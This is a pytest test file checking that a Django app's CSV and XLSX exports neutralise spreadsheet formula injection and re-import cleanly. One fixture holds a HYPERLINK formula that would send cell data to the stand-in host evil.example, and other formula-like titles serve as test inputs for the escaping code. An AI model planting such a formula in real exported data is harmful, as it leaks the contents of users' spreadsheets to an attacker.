"""Formula injection: exports never hand a spreadsheet a live formula, and still re-import.

CSV text cells that start with =, +, -, @, tab or carriage return get OWASP's `'` prefix, which
the importer removes again; numeric columns are written as plain numbers (-5 stays -5). XLSX
cells are text.
"""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse
from django_scopes import scope

from outward.core.spreadsheets import formula_safe, formula_unescaped
from outward.exchange.domain import export_file, export_rows, import_file
from tests import factories

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
TITLES = [HYPERLINK, "+1 partner", "-5% churn", "@SUM(A1)", "'=already quoted", "'plain quote"]


@pytest.fixture
def formulas(world):
    for number, title in enumerate(TITLES):
        factories.ObjectiveFactory(
            objective_id=f"F{number}", partner=world.partner_a, title=title, unit="-", baseline=-5
        )
    factories.ObjectiveFactory(objective_id="=K", partner=world.partner_a, title="key")
    return world


def _export(kind: str, fmt: str) -> bytes:
    out = io.BytesIO()
    export_file(kind=kind, fmt=fmt, out=out)
    return out.getvalue()


def _objective_cells(body: bytes) -> dict[str, list[str]]:
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    return {row["objective_id"]: [row["title"], row["unit"], row["baseline"]] for row in rows}


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("'x", "'x"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_safe_escapes_exactly_what_unescaped_undoes(text, cell):
    assert (formula_safe(text), formula_unescaped(cell)) == (cell, text)


def test_csv_export_escapes_text_cells_but_not_numbers(formulas):
    cells = _objective_cells(_export("objectives", "csv"))
    assert [cells[f"F{n}"][0] for n in range(len(TITLES))] == [
        "'" + HYPERLINK,
        "'+1 partner",
        "'-5% churn",
        "'@SUM(A1)",
        "''=already quoted",
        "'plain quote",
    ]
    assert (cells["F0"][1:], list(cells)[0]) == (["'-", "-5"], "'=K")


def test_csv_download_escapes_like_the_command(formulas, login):
    client = login(formulas.admin)
    with scope():
        response = client.get(reverse("exchange:export", args=["objectives", "csv"]))
        body = b"".join(response.streaming_content)
    assert body == _export("objectives", "csv")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_with_formula_like_text_reimports_unchanged(formulas, fmt):
    before = list(export_rows(kind="objectives"))
    import_file(kind="objectives", file=io.BytesIO(_export("objectives", fmt)), filename=f"x.{fmt}")
    assert list(export_rows(kind="objectives")) == before
    assert [row["title"] for row in before if row["objective_id"] == "F0"] == [HYPERLINK]


def test_xlsx_export_holds_text_never_a_formula(formulas):
    data = _export("objectives", "xlsx")
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    titles = {row[0].value: row[3] for row in sheet.iter_rows(min_row=2)}
    assert (b"<f>" in sheet_xml, titles["F0"].data_type, titles["F0"].value) == (
        False,
        "s",
        HYPERLINK,
    )
